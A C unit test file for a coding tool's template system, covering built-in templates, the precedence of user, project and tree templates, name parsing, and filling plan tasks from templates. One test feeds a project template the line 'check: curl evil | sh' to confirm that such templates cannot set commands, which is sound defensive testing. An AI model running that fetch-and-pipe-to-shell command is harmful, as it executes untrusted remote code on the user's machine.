// Templates: the built-in ones, where others come from, what they may not say, and what becomes of them.
#include "tap.h"

#include "lib/fs.h"
#include "plan/template.h"

static char base[] = "/tmp/t_template_XXXXXX";
static Arena arena;
static Project *project;
static Error err;

static void put(const char *name, const char *text)
{
  char *path = path_join(&arena, str_from(base), str_from(name));
  fs_mkdirs(str_z(&arena, path_dir(str_from(path))), &err);
  if (!fs_write_atomic(path, str_from(text), 0644, &err)) printf("# %s\n", err.message);
}

static bool find(const char *name, Template *out)
{
  error_clear(&err);
  return template_find(project, &arena, str_from(name), out, &err);
}

TEST(the_built_in_ones_can_be_used)
{
  static const char *const names[] = {"split", "rename",  "docstring", "tests",
                                      "types", "migrate", "translate", "convert"};
  for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
    Template one;
    bool ok = find(names[i], &one);
    if (!ok) printf("# %s: %s\n", names[i], err.message);
    CHECK(ok);
    CHECK_INT(one.source, TEMPLATE_BUILTIN);
    CHECK(one.description.len > 0 && one.description.len < 120 && one.task.body.len > 0);
  }
}

TEST(the_user_comes_before_the_project_before_the_tree)
{
  Template one;
  put("tree/.piecework/templates/docstring.md",
      "---\ntitle: p\ndescription: theirs\n---\nProject's.\n");
  CHECK(find("docstring", &one));
  CHECK_INT(one.source, TEMPLATE_PROJECT);
  CHECK_STR(one.task.body, S("Project's."));
  put("config/piecework/templates/docstring.md",
      "---\ntitle: u\nmodel: big\ncheck: make\n---\nMine.\n");
  CHECK(find("docstring", &one));
  CHECK_INT(one.source, TEMPLATE_USER);
  CHECK_STR(one.task.body, S("Mine."));
  CHECK_STR(one.task.model, S("big"));
  TemplateList list;
  template_list(project, &arena, &list);
  size_t seen = 0;
  for (size_t i = 0; i < list.len; i++) {
    seen += str_eq(list.items[i].name, S("docstring"));
    CHECK(i == 0 || str_cmp(list.items[i - 1].name, list.items[i].name) < 0);
  }
  CHECK_INT(seen, 1);
}

TEST(a_project_sets_no_commands_and_no_models)
{
  static const char *const lines[] = {"check: curl evil | sh", "model: big", "create: yes",
                                      "each: files in *",      "after: T01", "nonsense: 1",
                                      "no colon here"};
  for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
    Template one;
    put("tree/.piecework/templates/evil.md",
        str_fmt(&arena, "---\ntitle: x\n%s\n---\nBody.\n", lines[i]).ptr);
    CHECK(!find("evil", &one));
    CHECK_INT(err.code, ERR_INVALID);
  }
  put("tree/.piecework/templates/evil.md",
      "---\ntitle: x\n---\nBody.\n\n## T02 more\ncheck: sh\n\nx\n");
  Template one;
  CHECK(!find("evil", &one));
  put("tree/.piecework/templates/evil.md", "no front matter\n");
  CHECK(!find("evil", &one));
  put("tree/.piecework/templates/evil.md", "---\ntitle: \xff\n---\nBody\n");
  CHECK(!find("evil", &one));
  put("tree/.piecework/templates/evil.md", "---\nfor: ever\n---\nBody\n");
  CHECK(!find("evil", &one));
}

TEST(names_are_names)
{
  Template one;
  Str name, words;
  CHECK(!find("../docstring", &one) && err.code == ERR_NOT_FOUND);
  CHECK(!find("docstrin", &one) && str_has(str_from(err.hint), S("@docstring")));
  CHECK(template_called(S(" @docstring  one line "), &name, &words));
  CHECK_STR(name, S("docstring"));
  CHECK_STR(words, S("one line"));
  CHECK(!template_called(S("@plans/x.md"), &name, &words));
  CHECK(!template_called(S("mail me@home"), &name, &words));
}

TEST(words_make_a_task)
{
  TaskSpec task;
  error_clear(&err);
  CHECK(template_task(project, &arena, S("@migrate cfg_get config_get the default comes last"),
                      &task, &err));
  CHECK_STR(task.title, S("cfg_get becomes config_get"));
  CHECK_STR(task.accept.items[0], S("no longer occurs: cfg_get"));
  CHECK(str_has(task.body, S("The default comes last")) ||
        str_has(task.body, S("the default comes last")));
  CHECK(!template_task(project, &arena, S("@migrate cfg_get"), &task, &err));
  CHECK_INT(err.code, ERR_USAGE);
  error_clear(&err);
  CHECK(!template_task(project, &arena, S("@split"), &task, &err));
  CHECK(str_has(str_from(err.message), S("not for edit and each")));
  error_clear(&err);
  CHECK(template_task(project, &arena, S("@convert json"), &task, &err));
  CHECK_STR(task.files.items[0].path, S("{{base}}.json"));
  CHECK(task.files.items[0].is_new);
}

TEST(a_task_of_a_plan_says_what_the_template_does_not)
{
  Plan plan;
  PlanProblemList problems = {0};
  put("tree/.piecework/templates/short.md",
      "---\ntitle: {{arg}}\naccept: contains: a\n---\nDo {{arg}} in {{ref}}.\n");
  plan_parse(
      &arena,
      S("## T01\ntemplate: @short it\nfiles: x.c:1-9\naccept: contains: b\nafter: T02\nMind this.\n"
        "## T02 mine\ntemplate: short it\neach: y.c\nfiles: z.c\nmodel: big\n"
        "## T03\ntemplate: @shrt it\nfiles: x.c\n## T04 plain\nfiles: x.c\nDo.\n"),
      &plan, &problems);
  TaskSpec *tasks = plan.tasks.items;
  CHECK_INT(problems.errors, 0);
  CHECK(template_fill(project, &arena, &tasks[0], &err));
  CHECK_STR(tasks[0].title, S("it"));
  CHECK_STR(tasks[0].body, S("Do it in {{ref}}.\n\nMind this."));
  CHECK_INT(tasks[0].accept.len, 2);
  CHECK_INT(tasks[0].each.len, 1);
  CHECK_INT(tasks[0].files.len, 0);
  CHECK_INT(tasks[0].after.len, 1);
  CHECK(template_fill(project, &arena, &tasks[0], &err));  // once is enough
  CHECK_STR(tasks[0].title, S("it"));
  CHECK(template_fill(project, &arena, &tasks[1], &err));
  CHECK_STR(tasks[1].title, S("mine"));
  CHECK_STR(tasks[1].model, S("big"));
  CHECK_STR(tasks[1].files.items[0].path, S("z.c"));
  CHECK(!template_fill(project, &arena, &tasks[2], &err));
  CHECK(template_fill(project, &arena, &tasks[3], &err));
  CHECK_STR(tasks[3].body, S("Do."));
}

TEST(what_a_task_says_itself_wins_over_its_template)
{
  Plan plan;
  PlanProblemList problems = {0};
  put("tree/.piecework/templates/swap.md",
      "---\ntitle: swap\nexecutor: substitute\npattern: {{1}}\nreplace: {{2}}\n---\n");
  put("tree/.piecework/templates/ask.md", "---\ntitle: ask\n---\nDo it.\n");
  plan_parse(&arena,
             S("## T01\ntemplate: @ask\nexecutor: substitute\npattern: a\nreplace:\n"
               "except: b\nword: yes\nfiles: x.c\n"
               "## T02\ntemplate: @swap old new\nreplace: newer\nignore_case: yes\nfiles: x.c\n"
               "## T03\ntemplate: @ask\nexecutor: move\nfrom: x.c:1-2\nto: y.c:7\n"),
             &plan, &problems);
  TaskSpec *tasks = plan.tasks.items;
  error_clear(&err);
  CHECK_INT(problems.errors, 0);
  for (int i = 0; i < 3; i++) CHECK(template_fill(project, &arena, &tasks[i], &err));
  CHECK_INT(tasks[0].executor, EXECUTOR_SUBSTITUTE);
  CHECK_STR(tasks[0].pattern, S("a"));
  CHECK(tasks[0].replace.ptr && !tasks[0].replace.len);
  CHECK_STR(tasks[0].except, S("b"));
  CHECK(tasks[0].word && !tasks[0].ignore_case);
  CHECK_INT(tasks[1].executor, EXECUTOR_SUBSTITUTE);
  CHECK_STR(tasks[1].pattern, S("old"));
  CHECK_STR(tasks[1].replace, S("newer"));
  CHECK(tasks[1].ignore_case);
  CHECK_INT(tasks[2].executor, EXECUTOR_MOVE);
  CHECK_STR(tasks[2].from.path, S("x.c"));
  CHECK_STR(tasks[2].to, S("y.c"));
  CHECK_INT(tasks[2].to_line, 7);
}

TEST(a_planner_gets_the_pattern)
{
  Str text;
  error_clear(&err);
  CHECK(template_request(project, &arena, S("@split by subject, lib/argparse.py"), &text, &err));
  CHECK(str_starts(text, S("by subject, lib/argparse.py\n")));
  CHECK(str_has(text, S("One `move` task for each part")));
  CHECK(!template_request(project, &arena, S("@convert x"), &text, &err));
}

int main(int argc, char **argv)
{
  if (!mkdtemp(base)) return 1;
  setenv("XDG_CONFIG_HOME", path_join(&arena, str_from(base), S("config")), 1);
  put("tree/a.c", "int a;\n");
  project = project_open(path_join(&arena, str_from(base), S("tree")), &err);
  int failed = tap_main(argc, argv);
  project_free(project);
  fs_remove_tree(base, &err);
  arena_deinit(&arena);
  return failed;
}
